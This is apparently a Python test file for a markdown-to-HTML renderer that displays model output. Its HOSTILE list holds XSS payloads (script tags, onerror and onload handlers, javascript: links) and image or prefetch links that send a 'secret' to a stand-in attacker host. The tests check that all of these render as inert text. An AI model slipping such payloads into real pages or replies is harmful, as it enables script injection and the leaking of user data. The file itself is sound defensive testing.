"""What a model's text becomes, and what it must never become."""

import re
import time
import unittest
from html import unescape
from html.parser import HTMLParser

from hypothesis import given, settings
from hypothesis import strategies as st

from playground.markdown import code, formulas, inline, render

HOSTILE = [
    "<script>x</script>",
    "<img src=x onerror=window.__x=1>",
    '"><svg onload=alert(1)>',
    "<svg><animate onbegin=alert(1)></svg>",
    "<math><mtext><img src=x></mtext></math>",
    "<foreignObject>",
    "<lobeArtifact>x</lobeArtifact>",
    "<link rel=prefetch href=https://evil.example/>",
    "<video poster=https://evil.example/>",
    "<a ping=https://evil.example/>x</a>",
    "<style>a{background:url(https://evil.example/)}</style>",
    "![x](https://evil.example/?q=secret)",
    "![x][1]\n\n[1]: https://evil.example/?q=secret",
    "[![x](https://evil.example/a)](https://evil.example/b)",
    "![x](//evil.example/x)",
    "![x](https:evil.example)",
    "![x](data:image/svg+xml;base64,AAAA)",
    "[x](javascript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "<javascript:alert(1)>",
    "[x](data:text/html,x)",
    '[x](https://evil.example/"onmouseover="alert(1))',
    "[x](https://evil.example 'a\" onmouseover=\"b')",
    "```html\n<script>x</script>\n```",
    "```mermaid\ngraph TD; a[<img src=x onerror=x>]\n```",
    "```svg\n<svg onload=x>\n```",
    "```<img/src=x>\nx\n```",
    "$\\href{javascript:alert(1)}{x}$ $\\text{<img src=x>}$",
    "| <img src=x> |\n|---|\n| <script> |",
    "# <img src=x>",
    "- [x] <img src=x>",
    "<hx-partial hx-target='body'>x</hx-partial> <template hx type='partial'>",
]
ELEMENTS = {
    *("p", "h3", "h4", "h5", "h6", "ul", "ol", "li", "blockquote", "hr", "br", "table", "thead", "tbody", "tr", "th"),
    *("td", "div", "figure", "figcaption", "button", "pre", "code", "span", "strong", "em", "s", "a", "input"),
    *("math", "mrow", "mi", "mn", "mo", "mtext", "mspace", "mfrac", "msqrt", "msub", "msup", "msubsup", "mstyle"),
}
ATTRIBUTES = {
    *("class", "tabindex", "role", "aria-label", "type", "disabled", "checked", "start", "data-copy"),
    *("href", "title", "target", "rel", "display", "xmlns", "stretchy", "form", "fence", "width", "mathvariant"),
}


class Elements(HTMLParser):
    """Every element of a text, with its attributes."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


class SafetyTests(unittest.TestCase):
    def assertHarmless(self, text: str) -> None:
        for tag, attributes in Elements(render(text)).found:
            self.assertIn(tag, ELEMENTS, text)
            self.assertLessEqual(set(attributes), ATTRIBUTES, text)
            if tag == "a":
                self.assertRegex(attributes["href"] or "", "^(https?://|mailto:)", text)
                self.assertEqual((attributes["target"], attributes["rel"]), ("_blank", "noopener noreferrer nofollow"))

    def test_hostile_texts_are_text(self):
        for text in HOSTILE:
            self.assertHarmless(text)

    @settings(max_examples=200, deadline=None)
    @given(st.lists(st.sampled_from([*HOSTILE, "\n\n", "- ", "> ", "`", "**", "[", "](", "$", "<", '"']), max_size=6))
    def test_however_they_are_put_together(self, parts):
        self.assertHarmless("".join(parts))

    @settings(max_examples=200, deadline=None)
    @given(st.text(st.characters(), max_size=300))
    def test_no_text_is_an_error(self, text):
        self.assertHarmless(text)

    def test_no_picture_is_loaded(self):
        html = render("![a cat](https://evil.example/?q=secret)")
        self.assertIn("[picture: a cat · evil.example]</a>", html)
        self.assertNotIn("<img", html)

    def test_a_link_names_its_real_host(self):
        self.assertIn('title="evil.example"', render("[bank](https://bank.example@evil.example/)"))
        self.assertIn("bank.example (evil.example)</a>", render("[bank.example](https://evil.example/)"))
        self.assertNotIn("(", render("[www.a.example/x](https://a.example/x)"))

    def test_nothing_leads_into_this_site(self):
        for address in ("/admin/", "//evil.example", "?x", "#x", "https:evil", "ftp://a.example/"):
            self.assertNotIn("<a", render(f"[x]({address})"), address)

    def test_language_of_a_block_is_text(self):
        self.assertIn("&lt;img/src=x&gt;", render("```<img/src=x>\ny\n```"))


class TextTests(unittest.TestCase):
    def assertRenders(self, text: str, html: str) -> None:
        self.assertEqual(render(text), html)

    def test_marks(self):
        self.assertRenders("**a** *b* ~~c~~ `d`", "<p><strong>a</strong> <em>b</em> <s>c</s> <code>d</code></p>")

    def test_escapes_and_names(self):
        self.assertRenders("\\*a\\* &amp; &lt; \\$5", "<p>*a* &amp; &lt; $5</p>")

    def test_headings_stand_below_those_of_the_page(self):
        self.assertRenders("# a\n## b\n### c", "<h3>a</h3><h4>b</h4><h5>c</h5>")
        self.assertRenders("## a\n###### b\n# c\n## d", "<h3>a</h3><h4>b</h4><h3>c</h3><h4>d</h4>")

    def test_lists_look_the_same_tight_or_loose(self):
        self.assertEqual(render("- a\n- b"), render("- a\n\n- b"))

    def test_number_of_a_list(self):
        self.assertIn('<ol start="3">', render("3. c"))

    def test_tasks(self):
        self.assertIn('<input type="checkbox" disabled aria-label="done" checked> a', render("- [x] a"))
        self.assertIn("<p>[x] a</p>", render("[x] a"))

    def test_addresses_become_links(self):
        html = render("See https://a.example/b_c(d). And `https://a.example`.")
        self.assertIn('href="https://a.example/b_c(d)"', html)
        self.assertEqual(html.count("<a "), 1)

    def test_tables_scroll_and_can_be_focused(self):
        html = render("|a|b|\n|:-|-:|\n|1|")
        self.assertIn('<div class="table" tabindex="0" role="group" aria-label="Table">', html)
        self.assertIn('<td class="left">1</td><td class="right"></td>', html)

    def test_code_has_its_language_and_a_copy_button(self):
        html = render("```py\nx = 1\n```")
        self.assertIn("<span>Python</span>", html)
        self.assertIn("data-copy", html)
        self.assertIn('<pre tabindex="0" role="group" aria-label="Code, Python">', html)
        self.assertIn('<span class="mi">1</span>', html)

    def test_code_keeps_every_character(self):
        text = "if a < b && c:\n\tprint('<b>&amp;')\n\n\n  # é 😀\n"
        html = render(f"```py\n{text}```").split("<code>")[1].split("</code>")[0]
        self.assertEqual(_text(html), text)

    def test_every_language_has_its_lexer(self):
        for name in code.LANGUAGES:
            self.assertIsNotNone(code._lexer(name), name)

    def test_long_code_is_coloured_as_far_as_allowed(self):
        html = render("```py\n" + "x = 1\n" * 20_000 + "```")
        self.assertIn('class="mi"', html)
        self.assertEqual(_text(html.split("<code>")[1]).count("x = 1"), 20_000)


class FormulaTests(unittest.TestCase):
    def test_formulas_in_a_line(self):
        for text in ("$x^2$", "\\(x^2\\)", "a $x$ b", "$\\alpha$,", "$n$-th"):
            self.assertIn('<math xmlns="http://www.w3.org/1998/Math/MathML" display="inline">', render(text), text)

    def test_formulas_of_their_own(self):
        for text in ("$$x^2$$", "\\[x^2\\]", "$$\nx^2\n$$", "a\n\\[\nx^2\n\\]\nb"):
            self.assertIn('display="block"', render(text), text)

    def test_prices_are_no_formulas(self):
        for text in ("$5 and $6", "$5-$6", "$5, or 4$ more", "costs $5.", "US$5 and US$6", "`$a$`", "\\$a\\$", "$ a $"):
            self.assertNotIn("<math", render(text), text)

    def test_broken_formula_is_shown_as_code(self):
        for tex in ("\\frac{1", "\\unknowncommand{x}", "}{", "\\left( x"):
            self.assertIn("<code>", formulas.render(tex, display=False), tex)

    def test_deep_or_long_formula_is_shown_as_code(self):
        for tex in ("{" * 500 + "}" * 500, "x+" * 2000):
            self.assertIn("<code>", formulas.render(tex, display=False))


class LimitTests(unittest.TestCase):
    def test_nothing_takes_long(self):
        """64 kB of anything; the limit is 0.2 s on a quiet machine."""
        pieces = ["![", "[", "[a](b", "<a", "*a ", "_", "`a", "&", "$x$ ", "$$", "\\(", "- ", "-\n", "> ", "|a|\n|-|\n"]
        pieces += [
            "\n",
            "#\n",
            "    x\n",
            "```\n",
            "```py\n",
            "```java\n\n\n",
            "https://a(((",
            "x",
            "\0",
            "é",
            "[x]\n\n",
        ]
        pieces += ["[a [b [c [d\n\n", "**a\n\n", "$\\frac{1}{2}$\n\n", "1. a\n   - b\n", "| **a** | `b` |\n|-|-|\n"]
        pieces += [
            f"```{name}\n" + body * 4000 for name in ("java", "c", "ruby") for body in ("{\n", "/*\n", "\n", "a(")
        ]
        for piece in pieces:
            text = (piece * (64_000 // len(piece) + 1))[:64_000]
            render("x")
            begun = time.process_time()
            render(text)
            self.assertLess(time.process_time() - begun, 0.5, piece[:20])

    def test_past_the_limit_the_text_is_still_there(self):
        html = render("- **a** [b](https://c.example/)\n" * 20_000 + "# the end")
        self.assertIn('<div class="plain">', html)
        self.assertIn("# the end", html)

    def test_too_many_brackets_are_shown_as_written(self):
        text = "[" * (inline.MAX_BRACKETS + 1)
        self.assertEqual(render(text), f"<p>{text}</p>")


def _text(html: str) -> str:
    return unescape(re.sub("<[^>]+>", "", html))
